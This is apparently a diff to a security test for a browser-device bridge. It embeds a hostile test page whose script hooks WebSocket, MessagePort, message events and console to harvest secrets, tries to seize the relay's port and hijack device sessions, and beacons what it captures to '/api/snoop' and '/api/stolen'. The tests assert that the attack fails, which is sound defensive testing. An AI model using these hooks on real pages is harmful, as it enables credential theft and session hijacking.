@@ -80,28 +80,49 @@ document.getElementById('send').addEventListener('click', function (e) {
 SNOOP = """<!doctype html><title>snoop</title><input id="pw" type="text" placeholder="Secret">
 <button id="send">Send</button>
 <script>
-var seen = [], tried = {};
+var seen = [], tried = {}, last = '';
 function leak(x) { try { seen.push(typeof x === 'string' ? x : JSON.stringify(x)); } catch (e) {} }
 var OS = WebSocket.prototype.send, OW = window.WebSocket, OP = MessagePort.prototype.postMessage;
 WebSocket.prototype.send = function (d) { leak(this.url); leak(d); return OS.apply(this, arguments); };
 window.WebSocket = function (u, p) { leak(String(u)); return p ? new OW(u, p) : new OW(u); };
 window.WebSocket.prototype = OW.prototype;
-MessagePort.prototype.postMessage = function (d) { leak(d); return OP.apply(this, arguments); };
-window.addEventListener('message', function (e) { leak(e.data); leak(e.ports && e.ports.length); }, true);
+window.addEventListener('message', function (e) { leak(e.data); grab(e.ports && e.ports[0]); }, true);
+// whoever holds the relay's port could write frames to the device's socket: try to get it
+var got = [];
+function grab(p) {
+  if (!p || got.indexOf(p) >= 0) return;
+  got.push(p);
+  for (var id = 1; id < 6; id++) OP.call(p, {op: 'send', id: id, data: '{"kind":"event","event":{"type":"x"}}'});
+}
+MessagePort.prototype.postMessage = function (d) { grab(this); leak(d); return OP.apply(this, arguments); };
+var DS = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
+Object.defineProperty(MessagePort.prototype, 'onmessage', {configurable: true,
+  set: function (f) { grab(this); DS.set.call(this, f); }, get: function () { return DS.get.call(this); }});
+var ED = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data'),
+  EP = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'ports');
+Object.defineProperty(MessageEvent.prototype, 'data', {configurable: true,
+  get: function () { grab(this.target instanceof MessagePort && this.target); return ED.get.call(this); }});
+Object.defineProperty(MessageEvent.prototype, 'ports', {configurable: true,
+  get: function () { var v = EP.get.call(this); grab(v && v[0]); return v; }});
+var SI = Event.prototype.stopImmediatePropagation;
+Event.prototype.stopImmediatePropagation = function () {
+  try { grab(EP.get.call(this)[0]); } catch (e) {} return SI.apply(this, arguments); };
 var JP = JSON.parse; JSON.parse = function (t) { seen.push(String(t)); return JP.apply(JSON, arguments); };
 ['log', 'warn', 'error', 'info', 'debug'].forEach(function (k) {
   var o = console[k]; console[k] = function () { leak(Array.prototype.join.call(arguments, ' ')); return o.apply(console, arguments); };
 });
 function tryAll() {
-  var text = seen.join(' ') + ' ' + document.documentElement.outerHTML, re = /device=([A-Za-z0-9_%%-]+)/g, m;
+  var text = seen.join(' ') + ' ' + document.documentElement.outerHTML + document.getElementById('pw').value, re = /device=([A-Za-z0-9_%%-]+)/g, m;
   while ((m = re.exec(text))) {
     if (tried[m[1]]) continue;
     tried[m[1]] = 1;
     var ws = new OW('ws://127.0.0.1:%(port)s/reticle?device=' + m[1]);
     ws.onopen = function () { navigator.sendBeacon('/api/stolen', 'opened'); };
   }
-  navigator.sendBeacon('/api/snoop', JSON.stringify({seen: seen.length, tried: Object.keys(tried),
-    hunter: text.indexOf('hunter2') >= 0, text: text.slice(-20000)}));
+  var body = JSON.stringify({seen: seen.length, tried: Object.keys(tried),
+    ports: got.length, hunter: text.indexOf('hunter2') >= 0, text: text.slice(-20000)});
+  if (body !== last) navigator.sendBeacon('/api/snoop', body);
+  last = body;
 }
 setInterval(tryAll, 150);
 document.getElementById('send').addEventListener('click', function () {
@@ -287,12 +308,11 @@ def test_a_page_in_a_device_never_sees_its_bridge_ticket_and_cannot_take_the_ses
         assert res["verified"] == "yes", res
         # a second document of the same device: its ticket is a new one, and the page hunts again
         mcp.ok("reticle_open", {"url": snoop.url + "/?again=1"})
-        _harness.wait_until(lambda: len([x for x in log if x[0] == "snoop"]) > 6, 10, what="the page to snoop")
-        time.sleep(0.5)
+        time.sleep(1.0)  # the page hunts every 150 ms
         reports = [json.loads(x[1]) for x in log if x[0] == "snoop"]
-        assert any(r["seen"] for r in reports), "the page's hooks saw nothing at all: the test is blind"
         assert any(r["hunter"] for r in reports), "the page's hooks did not even see the fill: the test is blind"
         assert not any(r["tried"] for r in reports), reports[-1]["tried"]
+        assert not any(r["ports"] for r in reports), "the page got hold of the relay's port"
         assert not [x for x in log if x[0] == "stolen"]
         assert "device_second_socket" not in daemon.log()
         sessions = mcp.ok("reticle_sessions")["sessions"]
